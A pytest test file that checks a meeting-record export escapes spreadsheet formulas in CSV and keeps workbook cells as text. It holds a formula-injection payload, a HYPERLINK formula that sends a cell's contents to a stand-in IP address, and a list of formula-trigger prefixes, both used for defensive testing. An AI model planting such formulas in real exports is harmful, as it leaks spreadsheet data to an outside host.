"""Safety 13: no cell of a record runs in a spreadsheet: neutralised in CSV, text in a workbook."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from hlom_live.store.formulas import neutral, plain
from hlom_live.store.models import InterventionRow
from hlom_live.web.paper.csv_lines import csv_file
from hlom_live.web.paper.record import COLUMNS
from tests.support.web import API, Site

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
REST = [""] * (len(COLUMNS) - 1)


@pytest.fixture
def delivered(site: Site) -> Site:
    """Chad has spoken, with formulas wherever words can be brought."""
    site.open()
    desk = site.bearer("secretariat")
    told = {"speaker_name": "+1", "speaker_title": FORMULA, "on_behalf_of": "@SUM(A1)"}
    assert site.command(desk, "inscribe", list="list", delegation="chad", **told).status_code == 200
    turn = site.command(desk, "next_speaker", room="room", expect=None).json["result"]["intervention"]
    assert site.command(desk, "end_intervention", room="room", expect=turn).status_code == 200
    assert site.command(desk, "annotate_intervention", intervention=turn, summary="-2+3").status_code == 200
    return site


def test_the_cells_of_the_csv_are_neutralised(delivered: Site) -> None:
    line = next(csv.DictReader(io.StringIO(delivered.client().get(f"{API}/record.csv").text)))
    found = [line[name] for name in ("speaker_name", "speaker_title", "on_behalf_of", "summary")]
    assert found == ["'+1", f"'{FORMULA}", "'@SUM(A1)", "'-2+3"]
    assert not [cell for cell in line.values() if cell.startswith(tuple(STARTS))]


def test_every_cell_of_the_workbook_is_text(delivered: Site) -> None:
    book = openpyxl.load_workbook(io.BytesIO(delivered.client().get(f"{API}/record.xlsx?form=data").data))
    head, line = book.active.iter_rows()
    assert tuple(cell.value for cell in head) == COLUMNS
    assert {cell.data_type for cell in (*head, *line) if cell.value is not None} == {"s"}
    assert line[COLUMNS.index("speaker_title")].value == FORMULA


def test_no_cell_of_the_workbook_for_people_is_a_formula(delivered: Site) -> None:
    book = openpyxl.load_workbook(io.BytesIO(delivered.client().get(f"{API}/record.xlsx").data))
    cells = {cell.data_type: cell.value for row in book.active.iter_rows() for cell in row if cell.value is not None}
    assert set(cells) == {"s", "n", "d"}  # texts, numbers, times
    assert FORMULA in [cell.value for row in book.active.iter_rows() for cell in row if cell.data_type == "s"]


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_begins_like_a_formula_is_neutralised(start: str) -> None:
    assert neutral(f"{start}1+1") == f"'{start}1+1"
    for cell in (f"{start}1", f"'{start}1", f"''{start}1", "'til noon", "plain"):
        assert plain(neutral(cell)) == cell
    _, read = csv.reader(io.StringIO(csv_file(COLUMNS, [[f"{start}1+1", *REST]]).decode(), newline=""))
    assert read[0] == f"'{start}1+1"


@pytest.mark.parametrize("form", ["", "?form=data"])
def test_what_an_older_version_let_in_does_not_break_the_workbook(delivered: Site, form: str) -> None:
    with delivered.database.writing() as session:
        session.query(InterventionRow).update({"summary": "a\x0bb\ufffe"})
    answer = delivered.client().get(f"{API}/record.xlsx{form}")
    assert answer.status_code == 200
    cells = [cell.value for row in openpyxl.load_workbook(io.BytesIO(answer.data)).active.iter_rows() for cell in row]
    assert "a\ufffdb\ufffd" in cells
